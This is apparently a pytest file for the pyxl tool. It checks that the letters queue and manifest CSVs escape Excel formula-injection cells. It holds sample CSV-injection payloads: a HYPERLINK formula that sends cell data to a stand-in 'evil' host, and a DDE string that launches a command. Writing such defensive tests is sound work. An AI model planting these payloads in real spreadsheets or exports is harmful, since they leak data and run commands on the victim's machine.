"""Every CSV pyxl writes (the letters queue and manifest) is safe to open in Excel: text
starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe (OWASP's
CSV-injection rule) and reads back as the value it was. All data is made up."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from pyxl.adapters import schema
from pyxl.adapters.csv_file import FORMULA_STARTS, unescape, write_csv
from pyxl.services import demo

AS_OF = "2026-11-23"
PAYLOADS = ('=HYPERLINK("http://evil/?d="&B3,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)")
SAFE = ("00123", "1-2", "O'Brien", "'=already quoted", "#N/A", "")


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            number = re.fullmatch(r"-?[0-9.]+", cell)
            assert number or not cell.startswith(FORMULA_STARTS), cell


def test_cells_that_excel_would_run_are_quoted_and_read_back_as_typed(tmp_path: Path) -> None:
    values = [*PAYLOADS, "\t=1", "\r=1", *SAFE]
    rows = [[v, -5, 3.5] for v in values]
    path = write_csv(tmp_path / "x.csv", ["Text", "Number", "Decimal"], rows)
    back = read(path)
    assert_safe(back)
    assert [unescape(r[0]) for r in back[1:]] == values
    assert [r[1:] for r in back[1:]] == [["-5", "3.5"]] * len(values)
    assert [r[0] for r in back[1:]][-len(SAFE) :] == [
        "00123",
        "1-2",
        "O'Brien",
        "''=already quoted",
        "#N/A",
        "",
    ]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo caseload with a formula-looking case manager and postal code on two clients
    who are due letters on AS_OF (the one whose case manager is not on Staff is queued but
    gets no letter)."""
    folder = tmp_path_factory.mktemp("poisoned")
    path = demo.run_demo(folder, n_clients=30).path
    wb = openpyxl.load_workbook(path)
    ws = wb["Clients"]
    headers = [c.value for c in ws[schema.HEADER_ROW]]
    for row in ws.iter_rows(min_row=schema.HEADER_ROW + 1):
        poison = {
            "AK-100005": ("Case Manager", PAYLOADS[0]),
            "TX-100001": ("Postal Code", PAYLOADS[1]),
        }
        if row[0].value in poison:
            header, payload = poison[row[0].value]
            cell = row[headers.index(header)]
            cell.value = payload
            cell.data_type = "s"  # typed text, as a user's cell is (not a formula)
    wb.save(path)
    return path


def pyxl(*args: object) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "pyxl.cli", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=600,
    )


def test_the_letters_queue_and_manifest_are_formula_safe(poisoned: Path, tmp_path: Path) -> None:
    work = tmp_path / "caseload.xlsx"
    shutil.copy(poisoned, work)
    queue_dir, letters_dir = tmp_path / "queue", tmp_path / "letters"
    done = pyxl("letters", work, "--as-of", AS_OF, "--preview", "--out", queue_dir)
    assert done.returncode == 0, done.stderr
    done = pyxl("letters", work, "--as-of", AS_OF, "--out", letters_dir)
    assert done.returncode in {0, 1}, done.stderr
    (queue,) = queue_dir.glob("queue-*.csv")
    (manifest,) = letters_dir.glob("manifest-*.csv")
    for path, payload in ((queue, PAYLOADS[0]), (manifest, PAYLOADS[1])):
        rows = read(path)
        assert_safe(rows)
        assert payload in {unescape(c) for row in rows for c in row}, (path.name, rows)
